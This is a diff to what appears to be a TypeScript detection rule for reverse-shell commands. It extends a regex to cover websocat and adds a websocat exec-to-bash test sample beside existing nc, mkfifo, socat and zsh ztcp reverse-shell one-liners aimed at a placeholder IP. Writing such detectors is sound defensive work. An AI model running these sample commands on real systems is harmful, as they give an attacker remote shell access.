@@ -38,7 +38,7 @@ export const rule: Rule = {
     },
     { re: /mkfifo\s+\S[^\n]*[^\w-](?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\s/, window: 400 },
     { re: /mknod\s+\S+\s+p[^\n]*[^\w-](?:nc|ncat|telnet)\s/, window: 400 },
-    { re: /(?<![\w-])socat\s[^\n]*(?:exec|system):\s*["'\\]*[^\n,;|]*(?:sh|cmd|powershell)/i, window: 400 },
+    { re: /(?<![\w-])(?:web)?socat\s[^\n]*(?:exec|system):\s*["'\\]*[^\n,;|]*(?:sh|cmd|powershell)/i, window: 400 },
     { re: /(?<![\w-])ztcp\s+(?:-\w+\s+)*[\w.$-]+\s+[\d$]/ },
     {
       re: /(?<![\w-])telnet\s[^\n|]*\|\s*(?:\/[\w./-]*\/)?(?:ba|z|k|da)?sh\s*(?:-i\s*)?\|\s*telnet/,
@@ -62,6 +62,7 @@ export const rule: Rule = {
       'nc -c /bin/bash 203.0.113.7 4444',
       'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|nc 203.0.113.7 4444 >/tmp/f',
       "socat TCP:203.0.113.7:4444 EXEC:'/bin/bash',pty,stderr,setsid",
+      'websocat -E ws://203.0.113.7:8080 exec:/bin/bash',
       "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY'",
     ],
     silent: [
